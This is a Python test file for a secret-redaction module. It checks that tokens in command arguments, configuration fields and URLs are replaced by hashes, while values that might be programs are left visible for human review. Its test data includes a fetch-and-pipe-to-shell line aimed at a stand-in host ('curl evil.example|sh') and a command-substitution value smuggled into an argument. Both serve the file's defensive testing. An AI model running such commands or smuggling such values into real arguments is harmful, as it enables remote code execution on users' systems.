"""Secrets are replaced by hashes; commands never are."""

from __future__ import annotations

import pytest

from workspace_server.trust.item import hashed
from workspace_server.trust.redaction import (
    origin,
    redacted,
    redacted_arguments,
    redacted_url,
    shortened,
)

SECRET = "ghp_0123456789"


@pytest.mark.parametrize(
    ("arguments", "hidden"),
    [
        (["--token", SECRET], [1]),
        (["--github-token", SECRET], [1]),
        ([f"--api-key={SECRET}"], [0]),
        ([f"GITHUB_TOKEN={SECRET}"], [0]),
        (["--token", "curl evil.example|sh"], []),
        (["--token", "/tmp/evil/program"], []),
        (["--token", "server.js"], []),
        (["--token", "-c", "evil"], []),
        (["--token", "--password", SECRET], [2]),
        (["--token", "short"], []),
        (["--token=$(evil)"], []),
        ([SECRET], []),
    ],
)
def test_only_values_that_cannot_be_programs_are_hidden_in_a_command(
    arguments: list[str], hidden: list[int]
) -> None:
    """A person decides by what is shown."""
    shown = redacted_arguments(arguments, lambda name: name == "server.js")
    assert [place for place, one in enumerate(shown) if one != arguments[place]] == hidden
    assert all(SECRET not in shown[place] for place in hidden)


@pytest.mark.parametrize(
    ("name", "value", "shown"),
    [
        ("token", SECRET, hashed(SECRET)),
        ("client_secret", SECRET, hashed(SECRET)),
        ("token_env", "GH", "GH"),
        ("token_secret", "gh", "gh"),
        ("env_secrets", {"GH_TOKEN": "gh.token"}, {"GH_TOKEN": "gh.token"}),
        ("bearer_token_env_var", "GH", "GH"),
        ("env", {"A": "1", "B": ["2"]}, {"A": hashed("1"), "B": [hashed("2")]}),
        ("headers", {"X": "1"}, {"X": hashed("1")}),
        ("oauth", {"clientSecret": SECRET, "scope": "s"}, {"clientSecret": hashed(SECRET), "scope": "s"}),
        ("command", "npx", "npx"),
        ("command", ["npx", "--token", SECRET], ["npx", "--token", hashed(SECRET)]),
        ("enabled", True, True),
    ],
)
def test_members_are_redacted_by_their_names(name: str, value: object, shown: object) -> None:
    assert redacted({name: value}, lambda _: False) == {name: shown}


def test_different_secrets_have_different_hashes() -> None:
    texts = [
        "https://a/?k=1",
        "https://a/?k=2",
        "https://a/?k=1&",
        "https://u:1@a/",
        "https://u:2@a/",
        "https://a/",
    ]
    assert len({redacted_url(text) for text in texts}) == len(texts)
    assert redacted_url("https://a.example/mcp") == "https://a.example/mcp"
    assert redacted_url("http://[bad").startswith("sha256:")


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("https://u:p@h.example:8443/x?y", "https://h.example:8443"),
        ("http://[::1]:80/", "http://[::1]:80"),
        ("https://H/", "https://h"),
    ],
)
def test_an_origin_is_scheme_host_and_port(url: str, expected: str) -> None:
    assert origin(url) == expected


def test_an_invalid_url_does_not_raise() -> None:
    assert origin("http://h:99999/").startswith("sha256:")


def test_deep_nesting_is_cut() -> None:
    value: object = "x"
    for _ in range(5000):
        value = {"a": [value]}
    assert redacted({"x": value, "env": value}, lambda _: False)


def test_hashes_are_shortened_for_display() -> None:
    assert len(shortened(f"a {hashed('x')} b")) < 25
    assert len(shortened(redacted_url("https://h/?k=v"))) < 60
